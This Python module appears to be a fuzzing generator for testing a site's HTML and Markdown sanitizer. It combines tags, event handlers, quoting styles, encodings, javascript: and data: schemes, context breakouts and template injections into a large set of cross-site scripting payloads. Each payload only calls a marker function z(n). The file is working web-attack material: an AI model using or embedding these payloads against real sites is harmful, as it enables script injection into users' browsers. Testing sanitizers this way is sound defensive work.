"""Attacks on a page, grown from a grammar: tag × event × quoting × encoding × scheme, and the ways out of a context.

Each vector calls `z(number)` when it runs, so that a browser can say which of them did. Nothing here is anybody's
list: the parts are written down, and the sentences are made of them.
"""

from collections.abc import Callable, Iterator
from itertools import cycle, product

type_spelling = Callable[[str], str]
type_sentence = Callable[[int], str]

# Tag, what it needs besides, its events. Most run by themselves; the others when somebody touches them.
ELEMENTS = (
    ("img", "src=x", ("onerror", "onclick", "onmouseover")),
    ("svg", "", ("onload", "onclick", "onfocusin tabindex=0 autofocus x")),
    ("body", "", ("onload", "onpageshow", "onmousemove", "onfocusin")),
    ("details", "open", ("ontoggle", "onclick")),
    ("input", "autofocus", ("onfocus", "onclick", "oninput", "onkeydown")),
    ("select", "autofocus", ("onfocus", "onchange")),
    ("textarea", "autofocus", ("onfocus", "onselect")),
    ("video", "src=x", ("onerror", "onloadstart")),
    ("audio", "src=x", ("onerror",)),
    ("object", "data=x", ("onerror", "onload")),
    ("embed", "src=x", ("onload", "onerror")),
    ("iframe", "src=about:blank", ("onload",)),
    ("link", "rel=stylesheet href=x", ("onerror",)),
    ("script", "src=x", ("onerror",)),
    ("style", "", ("onload",)),
    ("button", "", ("onclick", "onpointerdown", "onpointerenter")),
    ("a", "href=#", ("onclick", "onmouseover", "ondragstart")),
    ("b", "tabindex=0", ("onfocus", "onmouseover", "onwheel", "oncopy", "oncontextmenu")),
    ("math", "", ("onclick", "onmouseover")),
    ("form", "", ("onsubmit", "onreset", "onclick")),
    ("dialog", "open", ("onclose", "onclick")),
    ("xss", "id=x tabindex=1", ("onfocus", "onmouseover", "onbeforecopy")),
)
QUOTES = ("{event}={js}", '{event}="{js}"', "{event}='{js}'", "/{event}={js}//", "{event} = {js} ", 'x="" {event}={js}')
# How often each of them comes, each time in another code, whole and way out.
TURNS = 4
# The ways out of wherever the text may stand.
EXITS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "]]>", "</style>", '"/>', "</h1>")


def entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


def hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def mixed(text: str) -> str:
    """Change the case of tag and event; the code, in which it counts, comes later."""
    return "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))


def fullwidth(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞").replace('"', "＂").replace("=", "＝")


def once(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def by_percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22").replace(" ", "%20")


# How tag and event are written, then the code, then the whole.
OF_NAMES: tuple[type_spelling, ...] = (str, mixed)
OF_CODE: tuple[type_spelling, ...] = (
    str,
    entities,
    hexadecimal,
    lambda js: js.replace("(", "&lpar;").replace(")", "&rpar;"),
)
OF_ALL: tuple[type_spelling, ...] = (
    str,
    str,
    str,
    once,
    by_percent,
    fullwidth,
    lambda text: text.replace(" ", "\t"),
    lambda text: f"<{text}",
)

SCHEMES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    "java\tscript:{js}",
    " javascript:{js}",
    "\x01javascript:{js}",
    "javascript&colon;{js}",
    "&#106;avascript:{js}",
    "javascript:/**/{js}",
    "javascript://%0a{js}",
    "vbscript:{js}",
    "data:text/html,<script>{js}</script>",
    "data:image/svg+xml,<svg onload={js}>",
)
# In the Markdown of a section, and in the HTML that somebody may write there.
CARRIERS = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "x")',
    "<{url}>",
    "![x]({url})",
    "[x][y]\n\n[y]: {url}",
    "[x][z]\n\n[z]: <{url}>",
    '<a href="{url}">x</a>',
    "<a href={url}>x</a>",
    '<svg><a xlink:href="{url}"><text>x</text></a></svg>',
    '<form action="{url}"><button>x</button></form>',
    '<button formaction="{url}">x</button>',
    '<iframe src="{url}"></iframe>',
    '<object data="{url}"></object>',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<base href="{url}//"><a href=x>x</a>',
)
# What is special about this house: its blocks, its citations, its templates, its data for search engines.
OWN = (
    "<script>{js}</script>",
    "<script>{js}//",
    "<<script>{js}//<</script>",
    "</script><script>{js}</script>",
    '"}}]}}</script><script>{js}</script>',
    "{{claim:<img src=x onerror={js}>}}",
    "{{icons:9/100|<img src=x onerror={js}>}}",
    "{{emergency}}<img src=x onerror={js}>",
    "{{ {js} }}{% debug %}",
    "{% autoescape off %}<img src=x onerror={js}>",
    '[@a"><img src=x onerror={js}>]',
    "[@x](javascript:{js})",
    "[<img src=x onerror={js}>](/articles/)",
    "[x](/articles/'onmouseover={js}//)",
    '[x](/articles/ "\'onmouseover={js}//")',
    '[x](/" onmouseover={js} x=")',
    "`<img src=x onerror={js}>`",
    "```\n</code><img src=x onerror={js}>\n```",
    "    </pre><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<svg><style><img src=x onerror={js}></style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<template><img src=x onerror={js}></template><img src=x onerror={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<img src=x:x onerror=\\u007a({number})>",
    "<a id=x tabindex=1 onfocus={js}>x</a>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart={js}>",
)


def vectors() -> list[str]:
    """Return every vector, each once; the place in the list is its number."""
    found: list[str] = []
    for sentence in _sentences():
        text = sentence(len(found))
        if text not in found:
            found.append(text)
    return found


def _sentences() -> Iterator[type_sentence]:
    """Every element with every event in every quoting, code, whole and way out taking turns; every scheme in every
    carrier; and our own.
    """
    exits, cases, codes, wholes = cycle(EXITS), cycle(OF_NAMES), cycle(OF_CODE), cycle(OF_ALL)
    for _turn in range(TURNS):
        for tag, needs, events in ELEMENTS:
            for event, quote in product(events, QUOTES):
                spell = next(cases)
                opened = f"<{spell(tag)} {needs} {quote.replace('{event}', spell(event))}>"
                yield _element(next(exits), opened, next(codes), next(wholes))
        next(codes), next(wholes)  # the next turn meets each element in another spelling
    for scheme in SCHEMES:
        for carrier in CARRIERS:
            yield _plain(carrier.replace("{url}", scheme))
    for own in OWN:
        yield _plain(own)


def _element(way_out: str, opened: str, code: type_spelling, whole: type_spelling) -> type_sentence:
    return lambda number: way_out + whole(opened.replace("{js}", code(f"z({number})")))


def _plain(text: str) -> type_sentence:
    return lambda number: text.replace("{js}", f"z({number})").replace("{number}", str(number))
